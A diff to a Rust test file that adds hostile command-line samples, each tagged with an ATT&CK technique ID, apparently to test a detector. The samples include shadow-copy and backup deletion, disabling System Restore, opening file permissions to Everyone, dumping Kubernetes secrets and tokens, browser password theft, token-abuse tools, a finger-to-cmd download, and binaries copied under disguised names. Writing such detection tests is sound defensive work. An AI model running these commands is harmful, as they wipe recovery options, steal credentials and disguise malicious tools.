@@ -601,6 +601,104 @@ const CASES: &[(&str, &str, &str)] = &[
         "group-policy-discovery",
         "T1615",
     ),
+    // Backups and restore points taken away before encryption.
+    (
+        r#""delete shadows all" | diskshadow.exe"#,
+        "recovery-inhibited",
+        "T1490",
+    ),
+    (
+        r"del /s /f /q c:\*.VHD c:\*.bac c:\*.bak c:\*.wbcat c:\*.bkf c:\Backup*.*",
+        "recovery-inhibited",
+        "T1490",
+    ),
+    (
+        r#"schtasks.exe /Change /TN "\Microsoft\Windows\SystemRestore\SR" /disable"#,
+        "recovery-inhibited",
+        "T1490",
+    ),
+    (
+        r#"Disable-ComputerRestore -Drive "C:\""#,
+        "recovery-inhibited",
+        "T1490",
+    ),
+    (
+        r"reg add HKLM\SOFTWARE\Policies\Microsoft\Windows NT\SystemRestore /v DisableSR /t REG_DWORD /d 1 /f",
+        "recovery-inhibited",
+        "T1490",
+    ),
+    // Permissions opened, system files taken over, remote links followed.
+    (
+        r#"icacls "C:\Users\Public\*" /grant Everyone:F /T /C /Q"#,
+        "permissions-opened",
+        "T1222.001",
+    ),
+    (
+        r"icacls D:\shares\finance /grant *S-1-1-0:(OI)(CI)F",
+        "permissions-opened",
+        "T1222.001",
+    ),
+    (
+        r"cacls C:\data /e /g everyone:f",
+        "permissions-opened",
+        "T1222.001",
+    ),
+    (
+        r"takeown /F %windir%\System32\sethc.exe /A",
+        "permissions-opened",
+        "T1222.001",
+    ),
+    (
+        "fsutil behavior set SymlinkEvaluation R2L:1\nfsutil behavior set SymlinkEvaluation R2R:1",
+        "permissions-opened",
+        "T1222.001",
+    ),
+    (
+        r#"reg add "HKLM\SYSTEM\CurrentControlSet\Control\FileSystem" /v SymlinkRemoteToLocalEvaluation /t REG_DWORD /d "1" /f"#,
+        "permissions-opened",
+        "T1222.001",
+    ),
+    // Secrets through a cluster's API, and the tools that read stored passwords or steal
+    // tokens.
+    (
+        "kubectl get secrets --all-namespaces -o yaml",
+        "container-secrets",
+        "T1552.007",
+    ),
+    (
+        "kubectl exec app-7d9 -- cat /run/secrets/kubernetes.io/serviceaccount/token",
+        "container-secrets",
+        "T1552.007",
+    ),
+    (
+        r"C:\Tools\WebBrowserPassView.exe /stext out.txt",
+        "credential-tool",
+        "T1555",
+    ),
+    (
+        r#"Start-Process .\BadPotato.exe "cmd /c whoami""#,
+        "token-abuse",
+        "T1134",
+    ),
+    (r#"NSudoLG.exe -U:T -P:E cmd"#, "token-abuse", "T1134"),
+    (
+        "finger user@example.host.com | more +2 | cmd",
+        "finger-download",
+        "T1105",
+    ),
+    // A shell or script host under the name of another Windows program, or copied into a
+    // temporary folder.
+    (
+        r"copy C:\Windows\System32\cmd.exe C:\lsm.exe",
+        "masquerading",
+        "T1036",
+    ),
+    (
+        r"copy %windir%\System32\windowspowershell\v1.0\powershell.exe %APPDATA%\taskhostw.exe /Y",
+        "masquerading",
+        "T1036",
+    ),
+    ("cp /bin/sh /tmp/crond", "masquerading", "T1036"),
 ];
 
 #[test]
